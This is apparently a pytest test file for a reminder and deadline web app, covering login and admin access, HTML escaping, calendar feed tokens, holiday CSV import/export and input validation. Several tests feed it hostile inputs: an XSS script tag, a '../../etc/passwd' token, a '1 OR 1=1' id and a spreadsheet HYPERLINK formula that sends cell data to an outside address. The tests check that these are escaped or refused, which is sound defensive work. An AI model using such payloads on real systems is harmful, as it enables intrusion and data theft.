"""Reminder pages: my deadlines, the inbox and its badge, channels and the calendar feed, and the
administrators' pages (periods, holiday calendar, e-mails not delivered), each with who may see
it and what bad input gets."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from icalendar import Calendar
from sqlmodel import select

from accounts.models import Role
from db import local_today
from reminders.calendar_store import load_chinese_calendar
from reminders.deadlines import Event, rebuild
from reminders.models import (
    Channel,
    Deadline,
    Delivery,
    DeliveryStatus,
    HolidayDay,
    PeriodSetting,
    ReminderPreference,
)
from reminders.profiles import PeriodKind
from tests.two_browsers import version_shown

TODAY = local_today()
SOURCE = "test.answer"


def answer(n, received: date, orgs, done=False) -> Event:
    return Event(
        source=SOURCE,
        subject_key=f"negotiation:{n}",
        kind=PeriodKind.ANSWER,
        scope=f"negotiation:{n}",
        subject=f"第{n}号协商<script>alert(1)</script>",
        starts_on=received,
        region_code="440105",
        rule="R4",
        org_ids=tuple(orgs),
        done=done,
    )


@pytest.fixture
def feed_events(session, monkeypatch):
    """Deadlines from a test source (registered, so a rebuild by a page keeps them)."""
    from reminders import deadlines

    def _feed(events):
        def source(_session, _scope):
            return events

        monkeypatch.setitem(deadlines.SOURCES, SOURCE, source)
        rebuild(session, {SOURCE: source})
        return {d.subject_key: d for d in session.exec(select(Deadline))}

    return _feed


@pytest.fixture
def chair(make_user):
    return make_user(Role.FEDERATION_CHAIR, email="chair@example.cn")


@pytest.fixture
def admin(make_user):
    return make_user(Role.ADMIN)


def inbox_reminder(session, deadline, user, step=3, read=False):
    row = Delivery(
        deadline_id=deadline.id,
        user_id=user.id,
        channel=Channel.INBOX,
        step=step,
        status=DeliveryStatus.SENT,
        sent_at=datetime.now(UTC),
        read_at=datetime.now(UTC) if read else None,
    )
    session.add(row)
    session.flush()
    return row


# --- who may see what --------------------------------------------------------------------------

PERSONAL = ["/deadlines", "/inbox", "/settings/reminders"]
ADMIN = [
    "/admin/periods",
    "/admin/periods/national/answer",
    "/admin/holidays",
    "/admin/holidays/2025.csv",
    "/admin/deliveries",
]


@pytest.mark.parametrize("path", PERSONAL + ADMIN)
def test_anonymous_visitors_are_sent_to_log_in(client, path):
    response = client.get(path)
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


@pytest.mark.parametrize("path", ADMIN)
def test_only_administrators_open_the_admin_pages(client, login, chair, path):
    login(chair)
    assert client.get(path).status_code == 403


@pytest.mark.parametrize(
    "path",
    [
        "/admin/periods/nowhere/answer",
        "/admin/periods/national/nothing",
        "/admin/holidays/1999.csv",
    ],
)
def test_unknown_admin_records_are_404(client, login, admin, path):
    login(admin)
    assert client.get(path).status_code == 404


# --- my deadlines -----------------------------------------------------------------------------


def test_my_deadlines_lists_my_organisations_only_grouped_and_escaped(
    client, login, chair, make_org, feed_events
):
    other = make_org()
    feed_events(
        [
            answer(1, TODAY - timedelta(days=40), [chair.organization_id]),  # overdue
            answer(2, TODAY, [chair.organization_id]),  # upcoming
            answer(3, TODAY - timedelta(days=10), [chair.organization_id], done=True),
            answer(4, TODAY, [other.id]),  # someone else's
        ]
    )
    login(chair)
    page = client.get("/deadlines").get_data(as_text=True)
    overdue = page.split('data-testid="deadlines-overdue"')[1].split("</table>")[0]
    upcoming = page.split('data-testid="deadlines-upcoming"')[1].split("</table>")[0]
    done = page.split('data-testid="deadlines-done"')[1].split("</table>")[0]
    assert "第1号协商" in overdue and "天逾期" not in overdue and "已逾期" in overdue
    assert "第2号协商" in upcoming and "天后到期" in upcoming
    assert "第3号协商" in done and "已完成" in done
    assert "第4号协商" not in page
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;" in page
    assert "《集体合同规定》第三十二条" in page  # the article each deadline comes from


# --- the inbox ----------------------------------------------------------------------------------


def test_the_badge_counts_unread_reminders_and_reading_clears_it(
    client, login, session, chair, feed_events
):
    rows = feed_events([answer(1, TODAY, [chair.organization_id])])
    first = inbox_reminder(session, rows["negotiation:1"], chair, step=7)
    inbox_reminder(session, rows["negotiation:1"], chair, step=3)
    login(chair)
    page = client.get("/deadlines").get_data(as_text=True)
    assert 'data-testid="reminder-badge"' in page and "2条未读提醒" in page
    inbox = client.get("/inbox").get_data(as_text=True)
    assert inbox.count('data-testid="reminder"') == 2 and "还剩7天" in inbox

    assert client.post("/inbox/read", data={"id": str(first.id)}).status_code == 302
    assert "1条未读提醒" in client.get("/inbox").get_data(as_text=True)
    client.post("/inbox/read", data={})
    assert 'data-testid="reminder-badge"' not in client.get("/inbox").get_data(as_text=True)


def test_nobody_marks_anothers_reminders_read(
    client, login, session, chair, make_user, feed_events
):
    rows = feed_events([answer(1, TODAY, [chair.organization_id])])
    theirs = inbox_reminder(session, rows["negotiation:1"], chair)
    from organizations.models import Organization

    colleague_org = session.get(Organization, chair.organization_id)
    intruder = make_user(Role.FEDERATION_STAFF, org=colleague_org)
    login(intruder)
    client.post("/inbox/read", data={"id": str(theirs.id)})
    session.refresh(theirs)
    assert theirs.read_at is None


def test_a_mark_read_without_its_token_is_refused(client, login, chair, app):
    login(chair)
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        assert client.post("/inbox/read", data={}).status_code == 400
    finally:
        app.config["WTF_CSRF_ENABLED"] = False


# --- channels and the calendar feed ---------------------------------------------------------


def test_choosing_channels_and_subscribing_to_the_calendar(
    client, login, session, chair, make_org, feed_events
):
    other = make_org()
    feed_events([answer(1, TODAY, [chair.organization_id]), answer(2, TODAY, [other.id])])
    login(chair)
    assert "保存一次即可生成" in client.get("/settings/reminders").get_data(as_text=True)
    response = client.post("/settings/reminders", data={"email": ""})
    assert response.status_code == 302
    preference = session.get(ReminderPreference, chair.id)
    assert preference.email is False
    token = preference.calendar_token
    assert token and len(token) >= 40
    page = client.get("/settings/reminders").get_data(as_text=True)
    assert f"/calendar/{token}.ics" in page

    client.get("/logout")
    feed = client.get(f"/calendar/{token}.ics")  # no login: the token is the key
    assert feed.status_code == 200
    assert feed.headers["Content-Type"].startswith("text/calendar")
    calendar = Calendar.from_ical(feed.data)
    events = [c for c in calendar.walk("VEVENT")]
    assert len(events) == 1
    assert "第1号协商" in str(events[0]["SUMMARY"])
    assert events[0].decoded("DTSTART") == session.exec(select(Deadline)).first().due_on


def test_a_new_calendar_address_ends_the_old_one(client, login, session, chair):
    login(chair)
    client.post("/settings/reminders", data={"email": "y"})
    old = session.get(ReminderPreference, chair.id).calendar_token
    client.post("/settings/reminders", data={"email": "y", "new_token": "y"})
    session.expire_all()
    new = session.get(ReminderPreference, chair.id).calendar_token
    assert new != old
    assert client.get(f"/calendar/{old}.ics").status_code == 404
    assert client.get(f"/calendar/{new}.ics").status_code == 200


@pytest.mark.parametrize("token", ["x", "a" * 43, "../../etc/passwd", "a" * 100])
def test_a_wrong_calendar_token_is_a_plain_404(client, token):
    response = client.get(f"/calendar/{token}.ics")
    assert response.status_code == 404
    assert "BEGIN:VCALENDAR" not in response.get_data(as_text=True)


def test_a_disabled_accounts_calendar_stops(client, session, chair):
    session.add(ReminderPreference(user_id=chair.id, calendar_token="t" * 43))
    chair.active = False
    session.add(chair)
    session.flush()
    assert client.get(f"/calendar/{'t' * 43}.ics").status_code == 404


# --- administrators: periods ------------------------------------------------------------------


def test_the_profiles_page_shows_each_area_and_its_articles(client, login, admin):
    login(admin)
    page = client.get("/admin/periods").get_data(as_text=True)
    assert "上海市" in page and "《上海市集体合同条例》第十五条" in page
    assert "浙江省" in page and "90" in page  # Zhejiang's renewal window: 90 days


@pytest.mark.parametrize(
    ("length", "unit", "message"),
    [
        ("0", "days", "零或负数"),
        ("-5", "days", "零或负数"),
        ("400", "days", "最长366日"),
        ("25", "months", "最长366日"),
        ("abc", "days", ""),
        ("", "days", ""),
    ],
)
def test_a_bad_period_is_refused_beside_the_field_and_kept(
    client, login, session, admin, length, unit, message
):
    login(admin)
    response = client.post(
        "/admin/periods/shanghai/answer",
        data={"length": length, "unit": unit, "article": "测试条款"},
    )
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert message in page
    assert 'value="测试条款"' in page
    assert session.exec(select(PeriodSetting)).first() is None


def test_a_new_period_recomputes_every_deadline_and_can_be_undone(
    client, login, session, admin, feed_events
):
    rows = feed_events([answer(1, date(2026, 3, 2), [admin.organization_id])])
    assert rows["negotiation:1"].due_on == date(2026, 3, 23)
    login(admin)
    url = "/admin/periods/national/answer"
    sent = {"length": "30", "unit": "days", "article": "测试：三十日"}
    response = client.post(url, data=sent | version_shown(client, url))
    assert response.status_code == 302
    session.expire_all()
    row = session.exec(select(Deadline)).one()
    assert (row.due_on, row.article) == (date(2026, 4, 1), "测试：三十日")
    page = client.get("/admin/periods").get_data(as_text=True)
    assert "管理员已设置" in page

    assert client.post("/admin/periods/national/answer/reset").status_code == 302
    session.expire_all()
    assert session.exec(select(Deadline)).one().due_on == date(2026, 3, 23)
    assert session.exec(select(PeriodSetting)).first() is None


# --- administrators: the holiday calendar ---------------------------------------------------


def upload(client, content: bytes, name: str):
    return client.post(
        "/admin/holidays",
        data={"file": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
    )


def test_importing_a_year_and_downloading_it_again(client, login, session, admin):
    login(admin)
    csv = "日期,类型,名称\n2027-01-01,放假,元旦\n2027-02-06,放假,春节\n2027-02-07,调休上班,春节\n"
    response = upload(client, csv.encode("utf-8"), "2027.csv")
    assert response.status_code == 302
    assert session.get(HolidayDay, date(2027, 2, 7)).kind == "workday"
    page = client.get("/admin/holidays").get_data(as_text=True)
    assert "2027" in page
    export = client.get("/admin/holidays/2027.csv")
    assert export.status_code == 200
    text = export.data.decode("utf-8-sig")
    assert text.splitlines() == [
        "日期,类型,名称",
        "2027-01-01,放假,元旦",
        "2027-02-06,放假,春节",
        "2027-02-07,调休上班,春节",
    ]


def test_a_holiday_name_a_spreadsheet_would_run_is_downloaded_as_text(
    client, login, session, admin
):
    login(admin)
    link = '=HYPERLINK("http://example.com/steal?d="&A1,"元旦")'
    rows = [["日期", "类型", "名称"], ["2027-01-01", "放假", link], ["2027-02-06", "放假", "-春节"]]
    content = io.StringIO()
    csv.writer(content).writerows(rows)
    assert upload(client, content.getvalue().encode("utf-8"), "2027.csv").status_code == 302
    export = client.get("/admin/holidays/2027.csv")
    lines = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"), newline="")))
    assert lines[1:] == [["2027-01-01", "放假", "'" + link], ["2027-02-06", "放假", "'-春节"]]
    # and the download imports back as it was: the apostrophes come off again
    assert upload(client, export.data, "2027.csv").status_code == 302
    again = client.get("/admin/holidays/2027.csv")
    assert again.data == export.data
    names = {day.name for day in session.exec(select(HolidayDay)).all()}
    assert {link, "-春节"} <= names


def test_a_holiday_file_with_bad_rows_is_refused_whole_rows_named(client, login, session, admin):
    load_chinese_calendar(session, [2026])
    before = len(session.exec(select(HolidayDay)).all())
    login(admin)
    csv = "日期,类型,名称\n2027-01-01,放假,元旦\n2027-02-30,放假,春节\n2027-03-03,调休上班,x\n"
    response = upload(client, csv.encode("utf-8"), "2027.csv")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "第3行" in page and "日期无效" in page
    assert "第4行" in page and "调休上班日应在周末" in page
    assert len(session.exec(select(HolidayDay)).all()) == before  # nothing saved


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"%PDF-1.4 not a table", "holidays.pdf", "请选择 .csv 或 .xlsx 文件"),
        (b"PK\x03\x04 broken", "holidays.xlsx", "这不是可读取的 Excel 工作簿"),
        (b"x" * (2 * 1024 * 1024 + 1), "big.csv", "不得超过2 MB"),
    ],
)
def test_files_that_are_not_holiday_tables_are_refused(
    client, login, admin, content, name, message
):
    login(admin)
    response = upload(client, content, name)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)


# --- administrators: e-mails not delivered --------------------------------------------------


def test_failed_emails_are_listed_and_sent_again(client, login, session, admin, chair, feed_events):
    rows = feed_events([answer(1, TODAY, [chair.organization_id])])
    failed = Delivery(
        deadline_id=rows["negotiation:1"].id,
        user_id=chair.id,
        channel=Channel.EMAIL,
        step=0,
        status=DeliveryStatus.FAILED,
        attempts=8,
        last_error="SMTPDataError: (550, b'Mailbox unavailable')",
    )
    session.add(failed)
    session.flush()
    login(admin)
    page = client.get("/admin/deliveries").get_data(as_text=True)
    assert "Mailbox unavailable" in page and "chair@example.cn" in page and "已停止重试" in page
    response = client.post("/admin/deliveries", data={"id": [str(failed.id)]})
    assert response.status_code == 302
    session.refresh(failed)
    assert (failed.status, failed.attempts) == (DeliveryStatus.PENDING, 0)


def test_a_retry_of_nonsense_ids_is_refused(client, login, admin):
    login(admin)
    assert client.post("/admin/deliveries", data={"id": ["abc"]}).status_code == 400


def test_a_tampered_reminder_id_marks_nothing_read(client, login, session, chair, feed_events):
    rows = feed_events([answer(1, TODAY, [chair.organization_id])])
    reminder = inbox_reminder(session, rows["negotiation:1"], chair)
    login(chair)
    assert client.post("/inbox/read", data={"id": "1 OR 1=1"}).status_code == 400
    session.refresh(reminder)
    assert reminder.read_at is None


@pytest.mark.parametrize("tampered", ["²", "arabic-indic", "0", "2147483648"])
def test_a_reminder_id_that_is_not_a_record_id_is_refused(
    client, login, session, chair, feed_events, tampered
):
    """Only ASCII digits name a record ("²" passes str.isdigit but not int(); int() reads
    Arabic-Indic digits as the id they look like): a 400, nothing marked read, never a 500."""
    rows = feed_events([answer(1, TODAY, [chair.organization_id])])
    reminder = inbox_reminder(session, rows["negotiation:1"], chair)
    if tampered == "arabic-indic":
        tampered = str(reminder.id).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    login(chair)
    assert client.post("/inbox/read", data={"id": tampered}).status_code == 400
    session.refresh(reminder)
    assert reminder.read_at is None
